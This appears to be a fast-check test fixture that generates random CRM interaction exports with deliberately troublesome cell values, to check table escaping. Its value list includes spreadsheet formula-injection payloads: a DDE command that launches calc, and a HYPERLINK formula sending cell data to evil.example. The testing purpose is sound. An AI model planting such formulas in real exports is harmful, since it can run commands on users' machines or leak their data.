import * as fc from 'fast-check';
import type { Interaction, Person } from '../../src/affinity/index.ts';
import type { ExportContext, ExportCoverage, ExportItem, ExportPart } from '../../src/export/exportSource.ts';
import { typeIds } from '../../src/model/interactionTypes.ts';

/** The title that Affinity gives to what is logged manually. */
export const MANUAL_TITLE = 'Manually logged event';

/** Texts that break tables: quotes, line ends, formulas, control characters, directions, pairs and long texts. */
const nasty = [
  '"',
  '""',
  ',',
  ';',
  '\r\n',
  '\n',
  '\r',
  '\t',
  '=1+1',
  '+49 30',
  '-5',
  '@SUM(A1)',
  "=cmd|'/c calc'!A0",
  "'=1",
  "''@x",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\t=1',
  '\r=1',
  '\n=1',
  '\u0000',
  '\u0007',
  '\u202eevil',
  'مرحبا',
  '東京',
  '👩‍👩‍👧‍👦',
  'Zoë',
  'é',
  '\uFEFF',
  '\u2028',
  '</script>',
  '=HYPERLINK("http://evil.example?x="&A1,"a")',
  ' ',
  '',
];

const cell = fc.oneof(
  { weight: 30, arbitrary: fc.constantFrom(...nasty) },
  {
    weight: 20,
    arbitrary: fc.array(fc.constantFrom(...nasty), { maxLength: 4 }).map((all) => all.join('')),
  },
  { weight: 10, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
);

/** 100,000 characters, a third of which have to be escaped. */
const longText = fc.constant('x"\n'.repeat(33_334));

const maybe = <Value>(value: fc.Arbitrary<Value>) => fc.option(value, { nil: undefined });

const date = fc.date({
  min: new Date('2000-01-01T00:00:00Z'),
  max: new Date('2030-01-01T00:00:00Z'),
  noInvalidDate: true,
});

const person: fc.Arbitrary<Person> = fc.record({
  id: fc.nat(),
  type: maybe(fc.constantFrom(0, 1, 2, 9)),
  firstName: maybe(cell),
  lastName: maybe(cell),
  primaryEmail: maybe(cell),
  emails: fc.array(cell, { maxLength: 2 }),
});

const people = fc.array(person, { maxLength: 3 });

const interaction: fc.Arbitrary<Interaction> = fc.record({
  id: fc.nat(),
  type: fc.constantFrom(...typeIds, 7),
  date,
  title: maybe(fc.oneof({ weight: 4, arbitrary: cell }, { weight: 1, arbitrary: fc.constant(MANUAL_TITLE) })),
  subject: maybe(cell),
  startTime: maybe(date),
  endTime: maybe(date),
  updatedAt: maybe(date),
  direction: maybe(fc.constantFrom(0, 1, 5)),
  manualCreatorId: maybe(fc.nat()),
  persons: people,
  attendees: fc.array(cell, { maxLength: 2 }),
  from: maybe(person),
  to: people,
  cc: people,
  noteIds: fc.array(fc.nat(), { maxLength: 3 }),
});

const record = fc.record({
  kind: fc.constantFrom('person' as const, 'company' as const, 'opportunity' as const),
  id: fc.nat(),
  name: cell,
});

const coverage: fc.Arbitrary<ExportCoverage> = fc.record({
  record,
  type: maybe(fc.constantFrom(...typeIds)),
  span: maybe(fc.tuple(date, date).map(([from, to]) => ({ from, to }))),
  end: fc.constantFrom('complete' as const, 'stopped' as const, 'failed' as const, 'chosen' as const),
  unreadable: fc.nat(),
  withoutText: fc.nat(),
  readAt: maybe(date),
});

const item: fc.Arbitrary<ExportItem> = fc.record({
  interaction,
  record,
  text: fc.oneof({ weight: 30, arbitrary: maybe(cell) }, { weight: 1, arbitrary: longText }),
});

/** Parts of an export at random, with every cell that a table could stumble over. */
export const randomParts: fc.Arbitrary<readonly ExportPart[]> = fc.array(
  fc.record({ items: fc.array(item, { maxLength: 6 }), coverage: fc.array(coverage, { maxLength: 2 }) }),
  { maxLength: 3 },
);

export const context: ExportContext = {
  exportedAt: new Date('2026-11-30T12:00:00Z'),
  firm: 'Fieldstone "Ventures"',
  filter: '=manual',
  linkOf: ({ type, id }) =>
    `vscode://affinity-interactions.affinity-interactions/interaction/acme-1/${type}-${id}`,
  pageOf: ({ kind, id }) => (kind === 'company' ? `https://acme.affinity.co/companies/${id}` : undefined),
};

export async function* sourceOf(parts: readonly ExportPart[]): AsyncGenerator<ExportPart, void> {
  yield* parts;
}

/** The whole text of an export, as it comes back from a file. */
export async function textOf(chunks: AsyncIterable<string>): Promise<string> {
  const all: Buffer[] = [];
  for await (const chunk of chunks) all.push(Buffer.from(chunk));
  return Buffer.concat(all).toString();
}
